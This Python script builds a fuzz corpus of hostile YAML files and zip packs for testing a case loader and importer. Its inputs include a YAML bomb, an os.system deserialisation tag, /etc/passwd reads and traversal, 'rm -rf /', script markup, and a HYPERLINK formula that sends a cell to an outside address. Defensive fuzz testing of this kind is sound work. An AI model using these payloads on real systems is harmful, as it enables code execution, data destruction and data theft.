"""Regenerate the hostile fuzz corpus: `python tests/fuzz_corpus/build_corpus.py`.

- cases/      case files the loader (+ lint) must refuse with a clear CaseError;
- valid_text/ valid cases whose *text* is hostile (markup, URLs, formulas, RTL
              overrides): they must load, and be shown/exported as plain text;
- packs/      zip packs that `cases import` must refuse whole.

The files are committed; tests walk the folders, not this script. Keep every file
small (the big "bombs" are compressed or expand only when parsed).
"""

from __future__ import annotations

import json
import sys
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parents[1]))

from tests.reliability.pack_builders import HOSTILE, case_bytes  # noqa: E402

BASE = case_bytes("fuzz-base").decode("utf-8")


#: The base case's own version line (the case is revised from time to time).
VERSION = next(line for line in BASE.splitlines(keepends=True) if line.startswith("version:"))


def edit(old: str, new: str, count: int = 1) -> bytes:
    assert old in BASE, old
    return BASE.replace(old, new, count).encode("utf-8")


HOSTILE_TEXT = (
    '<img src="http://203.0.113.9/x.png"><script>alert(1)</script>'
    "<a href='file:///etc/passwd'>點我</a>&amp;<b>粗體</b>"
)

CASES: dict[str, bytes] = {
    "billion-laughs.yaml": (
        b'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n'
        b"b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\n"
        b"c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n"
        b"d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\n"
        b"e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\n"
    ),
    "python-object-apply.yaml": b"id: !!python/object/apply:os.system ['touch /tmp/pwned']\n",
    "python-name-tag.yaml": b"id: !!python/name:os.system\n",
    "custom-include-tag.yaml": b"id: !include /etc/passwd\n",
    "merge-key.yaml": edit("setting: accommodation\n", "setting: accommodation\n<<: {x: 1}\n"),
    "anchor-in-case.yaml": edit("tags: [", "tags: &t ["),
    "duplicate-key.yaml": edit(VERSION, VERSION + "version: 99\n"),
    "deep-nesting.yaml": b"id: " + b"[" * 2000 + b"]" * 2000 + b"\n",
    "deep-mapping.yaml": b"".join(b"  " * i + b"k:\n" for i in range(200)) + b"  " * 200 + b"v\n",
    "nul-bytes.yaml": BASE.encode("utf-8")[:200] + b"\x00\x00" + BASE.encode("utf-8")[200:400],
    "latin1.yaml": "id: caf\u00e9\ntitle: caf\u00e9\n".encode("latin-1"),
    "utf16-bom.yaml": "id: x\n".encode("utf-16"),
    "empty.yaml": b"",
    "only-comment.yaml": b"# nothing here\n",
    "top-level-list.yaml": b"- id: x\n- id: y\n",
    "top-level-scalar.yaml": b"just a string\n",
    "unterminated-quote.yaml": (BASE + 'notes: "never closed\n').encode("utf-8"),
    "tab-indent.yaml": edit("  zh-TW: 北投溫泉旅館", "\tzh-TW: 北投溫泉旅館"),
    "id-with-traversal.yaml": edit("id: fuzz-base\n", "id: ../../etc/passwd\n"),
    "id-with-rtl-override.yaml": edit("id: fuzz-base\n", "id: fuzz\u202ebase\n"),
    "id-as-number.yaml": edit("id: fuzz-base\n", "id: 12345\n"),
    "version-string.yaml": edit(VERSION, "version: one\n"),
    "huge-integer.yaml": edit("  mood: 25\n", "  mood: " + "9" * 400 + "\n"),
    "nan-difficulty.yaml": edit("difficulty: 1\n", "difficulty: .nan\n"),
    "infinite-value.yaml": edit("  transaction_value: 12800\n", "  transaction_value: .inf\n"),
    "negative-authority.yaml": edit("  authority_limit: 2000\n", "  authority_limit: -5\n"),
    "unknown-setting.yaml": edit("setting: accommodation\n", "setting: moon_base\n"),
    "unknown-key.yaml": edit(VERSION, VERSION + "run_script: rm -rf /\n"),
    "missing-title.yaml": edit("title:\n  zh-TW: 北投溫泉旅館", "titel:\n  zh-TW: 北投溫泉旅館"),
    "unknown-fact-reference.yaml": edit("id: water_lukewarm\n", "id: water_lukewarm_renamed\n"),
    "truncated-half.yaml": BASE.encode("utf-8")[: len(BASE.encode("utf-8")) // 2],
    "binary-png-header.yaml": b"\x89PNG\r\n\x1a\n" + b"\x00" * 64,
    "yaml-directive-bomb.yaml": b"%YAML 1.1\n%TAG ! tag:evil.example,2024:\n---\nid: !x y\n",
    "set-tag.yaml": b"id: !!set {a, b}\n",
    "binary-tag.yaml": b"id: !!binary aGVsbG8=\n",
    "timestamp-tag.yaml": b"id: !!timestamp 2001-12-14\n",
    "multi-document.yaml": BASE.encode("utf-8") + b"\n---\nid: second\n",
}

VALID_TEXT: dict[str, bytes] = {
    "markup-in-text.yaml": edit(
        "  zh-TW: 北投溫泉旅館：結婚紀念日的湯屋不熱\n",
        f"  zh-TW: {json.dumps('北投' + HOSTILE_TEXT, ensure_ascii=False)}\n",
    ).replace(b"id: fuzz-base", b"id: fuzz-markup"),
    "formula-in-text.yaml": edit(
        "  zh-TW: 林先生與林太太\n",
        '  zh-TW: \'=HYPERLINK("http://203.0.113.9/?"&A1,"林先生")\'\n',
    ).replace(b"id: fuzz-base", b"id: fuzz-formula"),
}


def main() -> None:
    for folder, files in (("cases", CASES), ("valid_text", VALID_TEXT)):
        target = HERE / folder
        target.mkdir(exist_ok=True)
        for name, data in files.items():
            (target / name).write_bytes(data)
    packs = HERE / "packs"
    packs.mkdir(exist_ok=True)
    for name, build in HOSTILE.items():
        (packs / f"{name}.zip").write_bytes(build())
    print(f"{len(CASES)} cases, {len(VALID_TEXT)} valid hostile-text cases, {len(HOSTILE)} packs")


if __name__ == "__main__":
    main()
